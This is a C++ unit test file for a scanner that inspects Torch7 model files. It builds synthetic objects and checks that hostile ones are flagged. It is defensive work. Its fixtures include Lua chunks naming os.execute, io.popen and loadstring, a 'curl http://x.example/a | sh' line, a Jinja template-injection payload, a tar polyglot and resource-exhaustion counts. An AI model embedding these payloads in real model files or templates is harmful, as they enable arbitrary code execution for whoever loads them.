// Objects are written here as Torch7 writes them, in both of its spellings.
#include "scan/torch7.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "scan/lua_chunk.h"
#include "scan/test_support.h"

namespace hauberk::scan {
namespace {

using namespace std::string_literals;

class Torch7Writer {
 public:
  explicit Torch7Writer(bool ascii = false, std::size_t long_width = 8) : ascii_(ascii), long_width_(long_width) {}

  Torch7Writer& integer(std::int32_t value) { return put(value, 4); }
  Torch7Writer& longs(const std::vector<std::int64_t>& values) {
    for (std::size_t i = 0; i < values.size(); ++i) put(values[i], long_width_, i + 1 < values.size() ? " " : "\n");
    return *this;
  }
  Torch7Writer& chars(const std::string& text) {
    integer(static_cast<std::int32_t>(text.size()));
    out += text;
    if (ascii_ && !text.empty()) out += '\n';
    return *this;
  }
  Torch7Writer& string(const std::string& text) { return integer(2).chars(text); }
  Torch7Writer& number(int value) {
    integer(1);
    if (ascii_) return put(value, 8);
    const double wide = value;
    out.append(reinterpret_cast<const char*>(&wide), 8);
    return *this;
  }
  Torch7Writer& table(std::int32_t pairs) { return integer(3).integer(++objects_).integer(pairs); }
  Torch7Writer& object(const std::string& name) { return integer(4).integer(++objects_).chars("V 1").chars(name); }
  Torch7Writer& reference(std::int32_t tag, std::int32_t index) { return integer(tag).integer(index); }
  Torch7Writer& floats(std::int64_t count, const std::string& kind = "Float") {
    object("torch." + kind + "Storage").longs({count});
    for (std::int64_t i = 0; i < count; ++i) out += ascii_ ? (i + 1 < count ? "-1.5e-05 " : "nan\n") : "abcd";
    return *this;
  }
  Torch7Writer& tensor(const std::vector<std::int64_t>& sizes, const std::vector<std::int64_t>& strides,
                       std::int64_t offset = 1) {
    object("torch.FloatTensor").integer(static_cast<std::int32_t>(sizes.size()));
    if (!sizes.empty()) longs(sizes).longs(strides);
    return longs({offset});
  }
  Torch7Writer& function(const std::string& chunk) {
    return integer(8).integer(++objects_).chars(chunk).table(1).number(1).table(1).string("name").string("_ENV");
  }
  std::string out;

 private:
  Torch7Writer& put(std::int64_t value, std::size_t width, std::string_view end = "\n") {
    if (ascii_)
      out += std::to_string(value) + std::string(end);
    else
      for (std::size_t i = 0; i < width; ++i) out += static_cast<char>(value >> 8 * i);
    return *this;
  }
  bool ascii_;
  std::size_t long_width_;
  std::int32_t objects_ = 0;
};

Report torch7_scan(const std::string& data, std::string_view name = "m.t7") { return scan_bytes(data, name); }
std::string torch7_told(const Report& report) {
  std::string text = std::string(name(report.verdict)) + " " + report.format;
  for (const auto& finding : report.findings)
    text += "\n  " + finding.rule + " " + finding.where.text() + ": " + finding.message;
  return text;
}

// As luajit's string.dump() writes constants, in the order last to first.
std::string torch7_chunk(const std::vector<std::string>& constants) {
  std::string out = "\x1bLJ\x01\x02\x10\x02\x01"s;
  for (const auto& constant : constants) out += static_cast<char>(constant.size() + 5) + constant;
  return out;
}

std::string torch7_network(bool ascii, std::size_t long_width = 8) {
  Torch7Writer file(ascii, long_width);
  file.object("nn.Sequential").table(3);
  file.string("train").integer(5).integer(0);
  file.string("modules").table(1).number(1).object("nn.Linear").table(2);
  file.string("weight").tensor({2, 3}, {3, 1}).floats(6);
  file.string("bias").tensor({3}, {1}, 4).reference(4, 7);  // the storage of the weight
  file.string("again").reference(4, 5);
  return file.out;
}

TEST(Torch7, a_network_is_clean_in_both_spellings) {
  for (const bool ascii : {false, true}) {
    const auto report = torch7_scan(torch7_network(ascii));
    EXPECT_EQ(report.verdict, ScanVerdict::clean) << torch7_told(report);
    EXPECT_EQ(report.format, ascii ? "torch7-ascii" : "torch7");
  }
  const auto foreign = torch7_scan(torch7_network(false, 4));
  EXPECT_EQ(foreign.verdict, ScanVerdict::review) << torch7_told(foreign);
  EXPECT_TRUE(has_rule(foreign, "torch7.short-longs"));
  EXPECT_EQ(torch7_scan(Torch7Writer().table(0).out).format, "torch7");
}

TEST(Torch7, every_cut_is_seen) {
  for (const bool ascii : {false, true}) {
    const auto whole = torch7_network(ascii);
    for (std::size_t cut = 30; cut + 1 < whole.size(); ++cut)
      EXPECT_NE(torch7_scan(whole.substr(0, cut)).verdict, ScanVerdict::clean) << cut;
    EXPECT_TRUE(has_rule(torch7_scan(whole.substr(0, whole.size() / 2)), "torch7.malformed"));
    EXPECT_TRUE(has_rule(torch7_scan(whole + "more"), "scan.trailing-bytes"));
  }
}

TEST(Torch7, a_function_is_code_and_what_it_names_decides) {
  for (const bool ascii : {false, true}) {
    const auto with = [&](const std::string& chunk) {
      return torch7_scan(Torch7Writer(ascii).object("nn.Linear").table(1).string("updateOutput").function(chunk).out);
    };
    const auto harmless = with(torch7_chunk({"zero", "math"}));
    EXPECT_EQ(harmless.verdict, ScanVerdict::review) << torch7_told(harmless);
    EXPECT_TRUE(has_rule(harmless, "torch7.function"));
    for (const auto& chunk :
         {torch7_chunk({"id", "execute", "os"}), torch7_chunk({"popen", "io"}), torch7_chunk({"code", "loadstring"}),
          torch7_chunk({"x.so", "loadlib", "package"}), torch7_chunk({"ffi", "require"}), "os.execute('id')"s,
          torch7_chunk({"curl http://x.example/a | sh"})}) {
      const auto report = with(chunk);
      EXPECT_EQ(report.verdict, ScanVerdict::malicious) << torch7_told(report);
      EXPECT_TRUE(has_rule(report, "torch7.dangerous-function"));
    }
  }
  const auto alone = torch7_scan(Torch7Writer().function(torch7_chunk({"execute", "os"})).out, "model.bin");
  EXPECT_EQ(alone.verdict, ScanVerdict::malicious) << torch7_told(alone);
  const auto cut = torch7_scan(Torch7Writer().integer(8).integer(1).chars(torch7_chunk({"execute", "os"})).out);
  EXPECT_EQ(cut.verdict, ScanVerdict::malicious) << torch7_told(cut);
  const auto old = Torch7Writer().integer(6).chars(torch7_chunk({"execute", "os"})).table(0).out;
  EXPECT_EQ(torch7_scan(old).verdict, ScanVerdict::malicious) << torch7_told(torch7_scan(old));
}

TEST(Torch7, constants_of_all_versions_of_lua_are_found) {
  EXPECT_TRUE(lua_danger("\x1bLuaQ...\x04\x06\0\0\0\0\0\0\0popen\0"s));
  EXPECT_TRUE(lua_danger("\x1bLuaS...\x04\x06popenxyz"s));
  EXPECT_TRUE(lua_danger("\x1bLuaT...\x04\x86popenxyz"s));
  EXPECT_TRUE(lua_danger("\x1bLJ...\x0apopenxyz"s));
  EXPECT_FALSE(lua_danger("\x1bLJ...\x0fmypopenxyz"s));
  EXPECT_FALSE(lua_danger(torch7_chunk({"remove", "table", "clock", "os"})));
  EXPECT_TRUE(lua_danger(torch7_chunk({"remove", "os"})));
  EXPECT_EQ(lua_program_in("x = io.popen 'id'").value_or(""), "calls io.popen");
  EXPECT_FALSE(lua_program_in("use os.execute with care"));
}

TEST(Torch7, texts_classes_and_bounds_are_judged) {
  const auto with = [](const std::string& text) {
    return torch7_scan(Torch7Writer().table(1).string("note").string(text).out);
  };
  EXPECT_EQ(with("a network for small images (2015)").verdict, ScanVerdict::clean);
  EXPECT_TRUE(has_rule(with("os.execute('id')  -- now"), "scan.program-text"));
  EXPECT_TRUE(has_rule(with("import os; os.system('id')"), "scan.program-text"));
  const auto unknown = torch7_scan(Torch7Writer().object("my.Layer").table(0).out);
  EXPECT_TRUE(has_rule(unknown, "torch7.unknown-class"));
  EXPECT_EQ(unknown.verdict, ScanVerdict::review);
  EXPECT_EQ(torch7_scan(Torch7Writer().object("my.Layer").number(1).out).verdict, ScanVerdict::inconclusive);
  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({2, 3}, {3, 1}).floats(5).out), "torch7.out-of-bounds"));
  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({2}, {1}, 0).floats(5).out), "torch7.out-of-bounds"));
  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({2}, {1}).floats(2, "Int").out), "torch7.out-of-bounds"));
  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({1}, {1}).integer(0).out), "torch7.out-of-bounds"));
  EXPECT_EQ(torch7_scan(Torch7Writer().tensor({}, {}).integer(0).out).verdict, ScanVerdict::clean);
  EXPECT_EQ(torch7_scan(Torch7Writer().object("tds.Hash").longs({1}).string("k").number(2).out).verdict,
            ScanVerdict::clean);
  EXPECT_EQ(torch7_scan(Torch7Writer().object("tds.Vec").longs({2}).string("k").number(2).out).verdict,
            ScanVerdict::clean);
}

TEST(Torch7, hostile_counts_and_depths_cost_nothing) {
  for (const auto& file :
       {Torch7Writer().object("nn.A").table(0x7fffffff).out, Torch7Writer().object("nn.A").table(-1).out,
        Torch7Writer().object("torch.ByteStorage").longs({INT64_MAX}).out,
        Torch7Writer().object("torch.DoubleStorage").longs({-1}).out,
        Torch7Writer().object("torch.FloatTensor").integer(0x7fffffff).out,
        Torch7Writer().object("nn.A").table(1).integer(2).integer(-1).out,
        Torch7Writer().object("nn.A").table(1).integer(99).out}) {
    const auto report = torch7_scan(file);
    EXPECT_EQ(report.verdict, ScanVerdict::malformed) << torch7_told(report);
  }
  Torch7Writer tables, tensors, functions;
  for (int i = 0; i < 100'000; ++i) {
    tables.object("nn.A").table(1).number(i);
    tensors.tensor({}, {});
    functions.integer(8).integer(i + 1).chars("\x1bLJ");
  }
  for (const auto* file : {&tables, &tensors, &functions})
    EXPECT_NE(torch7_scan(file->out).verdict, ScanVerdict::clean);
}

TEST(Torch7, other_texts_stay_what_they_are) {
  for (const auto& text : {"3 1 2\n4 5 6\n7 8 9\n"s, "4 people, 1 model\n"s, "6 20 words (more or less) of text\n"s,
                           "3.5\n"s, "8\n1\n4\n"s, "12 monkeys\n"s})
    EXPECT_EQ(torch7_scan(text, "notes.txt").format, "text") << text;
  const auto mine = torch7_scan("a text", "m.t7");
  EXPECT_TRUE(has_rule(mine, "scan.name-mismatch"));
  const auto foreign = torch7_scan("T7\0\0torch.FloatTensor"s, "m.t7");
  EXPECT_TRUE(has_rule(foreign, "scan.name-mismatch"));
  EXPECT_EQ(foreign.verdict, ScanVerdict::inconclusive);
}

// One file, two readers.
TEST(Torch7, an_object_that_is_another_file_as_well_is_seen_as_both) {
  Torch7Writer file(true);
  file.object("nn.A").table(1).string("x").string("{{ ''.__class__.__mro__[1].__subclasses__() }}");
  const auto report = torch7_scan(file.out, "chat_template.jinja");
  EXPECT_EQ(report.format, "torch7-ascii");
  EXPECT_NE(report.verdict, ScanVerdict::clean) << torch7_told(report);
  std::string tar = Torch7Writer().object("nn.A").table(1).string(std::string(600, 'a')).number(1).out;
  tar.replace(257, 5, "ustar");
  EXPECT_TRUE(has_rule(torch7_scan(tar), "scan.polyglot"));
}

}  // namespace
}  // namespace hauberk::scan
